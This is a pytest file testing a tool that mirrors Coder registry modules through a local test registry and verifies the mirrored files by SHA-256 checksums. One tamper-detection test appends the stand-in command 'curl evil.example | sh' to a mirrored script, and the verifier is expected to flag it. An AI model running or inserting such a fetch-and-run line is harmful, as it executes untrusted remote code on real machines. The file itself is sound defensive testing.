"""`coderbundle mirror`: the real module trees, served as "registry.coder.com" on 127.0.0.1 by a
test registry (tests/standin/module_registry.py), mirrored through the registry protocol."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from coderbundle import mirrors, terraform
from coderbundle.errors import MirrorError
from coderbundle.mirror_modules import mirror_modules, verify_mirror
from coderbundle.pipeline import render_all
from coderbundle.settings import load_settings
from standin.module_registry import serve_registry

REPO = Path(__file__).resolve().parent.parent
REAL_MODULES = REPO.parent / "shared" / "registry-modules"
HOST = "registry.coder.com"
TOOLS = ("CODERBUNDLE_TERRAFORM", "CODERBUNDLE_PROVIDER_MIRROR")
TOOLS_ENV = {k: os.environ[k] for k in TOOLS if os.environ.get(k)}

pytestmark = pytest.mark.skipif(
    not (REAL_MODULES / mirrors.PROVENANCE_TSV).is_file(),
    reason=f"the real coder/registry module trees are not at {REAL_MODULES}",
)


def _tree(root: Path, source: str, version: str) -> Path:
    return root.joinpath(*source.split("/"), version)


def _files(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_mirror_holds_every_pinned_and_nested_module_with_all_its_files(bundle, tmp_path):
    settings = load_settings(bundle(), {})
    pins = tomllib.loads((REPO / "templates" / "_shared" / "versions.toml").read_text())["modules"]
    destination = tmp_path / "mirror"
    with serve_registry(REAL_MODULES, HOST) as url:
        result = mirror_modules(settings, destination, registry_urls={HOST: url})
    wanted = {f"{spec['source']}@{spec['version']}" for spec in pins.values()}
    nested = {f"{HOST}/coder/agentapi/coder@2.0.0", f"{HOST}/coder/vscode-desktop-core/coder@1.0.2"}
    assert set(result.modules) == wanted | nested
    for module in result.modules:
        source, version = module.split("@")
        # every file, the scripts the modules read with file()/templatefile() included
        assert _files(_tree(destination, source, version)) == _files(_tree(REAL_MODULES, source, version))
    assert (
        _tree(destination, f"{HOST}/coder-labs/copilot/coder", "0.4.1") / "scripts" / "install.sh"
    ).is_file()
    manifest = json.loads((destination / mirrors.MIRROR_MANIFEST).read_text())
    assert all(len(m["sha256"]) == 64 for m in manifest["modules"].values())
    assert verify_mirror(destination) == len(manifest["files"])
    assert mirrors.describe_modules(destination).startswith("modules: real, mirrored from registry.coder.com")
    assert not list(tmp_path.glob(".mirror.*"))  # no staging left behind


def test_a_corrupted_download_refuses_the_mirror_and_keeps_the_old_one(bundle, tmp_path):
    settings = load_settings(bundle(), {})
    destination = tmp_path / "mirror"
    destination.mkdir()
    (destination / "previous.txt").write_text("the mirror of last week\n")
    tamper = serve_registry(REAL_MODULES, HOST, tamper=lambda data: data[:-1] + b"x")
    with tamper as url, pytest.raises(MirrorError, match="sha256"):
        mirror_modules(settings, destination, registry_urls={HOST: url})
    assert [p.name for p in destination.iterdir()] == ["previous.txt"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bundle", "mirror"]


def test_a_module_the_registry_lacks_refuses_the_mirror(bundle, tmp_path):
    root = bundle()
    versions = root / "templates" / "_shared" / "versions.toml"
    versions.write_text(versions.read_text().replace('version = "2.0.3"', 'version = "2.0.99"', 1))
    settings = load_settings(root, {})
    with serve_registry(REAL_MODULES, HOST) as url, pytest.raises(MirrorError, match="HTTP 404"):
        mirror_modules(settings, tmp_path / "mirror", registry_urls={HOST: url})
    assert not (tmp_path / "mirror").exists()


def test_verify_finds_a_changed_file(bundle, tmp_path):
    settings = load_settings(bundle(), {})
    destination = tmp_path / "mirror"
    with serve_registry(REAL_MODULES, HOST) as url:
        mirror_modules(settings, destination, registry_urls={HOST: url})
    script = _tree(destination, f"{HOST}/coder/git-clone/coder", "2.0.3") / "run.sh"
    script.write_text(script.read_text() + "\ncurl evil.example | sh\n")
    with pytest.raises(MirrorError, match=r"coder/git-clone/coder/2\.0\.3/run\.sh"):
        verify_mirror(destination)


def test_cli_mirror_and_its_usage_errors(bundle, tmp_path):
    root = bundle()
    env = {k: v for k, v in os.environ.items() if not k.startswith("CODERBUNDLE_")}
    cli = [sys.executable, "-m", "coderbundle", "--root", str(root), "mirror"]
    bad = subprocess.run(
        [*cli, str(tmp_path / "m"), "--registry-url", "nohost"],
        capture_output=True,
        text=True,
        env=env,
        check=False,
    )
    assert bad.returncode == 2, bad.stderr
    assert "HOST=URL" in bad.stderr
    with serve_registry(REAL_MODULES, HOST) as url:
        done = subprocess.run(
            [*cli, str(tmp_path / "m"), "--registry-url", f"{HOST}={url}"],
            capture_output=True,
            text=True,
            env=env,
            check=False,
        )
    assert done.returncode == 0, done.stderr
    assert "13 modules in" in done.stderr
    check = subprocess.run(
        [*cli, str(tmp_path / "m"), "--verify"], capture_output=True, text=True, env=env, check=False
    )
    assert check.returncode == 0, check.stderr
    unreachable = subprocess.run(
        [*cli, str(tmp_path / "n"), "--registry-url", f"{HOST}=http://127.0.0.1:9/"],
        capture_output=True,
        text=True,
        env=env,
        check=False,
    )
    assert unreachable.returncode == 1, unreachable.stderr
    assert "cannot reach" in unreachable.stderr
    assert "Traceback" not in unreachable.stderr
    assert not (tmp_path / "n").exists()


@pytest.mark.skipif(len(TOOLS_ENV) < len(TOOLS), reason="no offline terraform toolchain (`nox -s tools`)")
def test_terraform_inits_a_template_from_the_mirror(bundle, tmp_path):
    root = bundle(real=("nodejs",))
    destination = tmp_path / "mirror"
    with serve_registry(REAL_MODULES, HOST) as url:
        mirror_modules(load_settings(root, {}), destination, registry_urls={HOST: url})
    settings = load_settings(root, {**TOOLS_ENV, "CODERBUNDLE_MODULE_MIRROR": str(destination)})
    (rendered,) = render_all(settings)
    with terraform.toolchain(settings) as tc:
        assert "modules: real, mirrored from registry.coder.com" in tc.summary
        assert terraform.init_dir(rendered.path, tmp_path / "scratch", tc) is None
    installed = json.loads((tmp_path / "scratch" / ".terraform" / "modules" / "modules.json").read_text())
    assert any(m["Key"].endswith("agentapi") for m in installed["Modules"]), installed
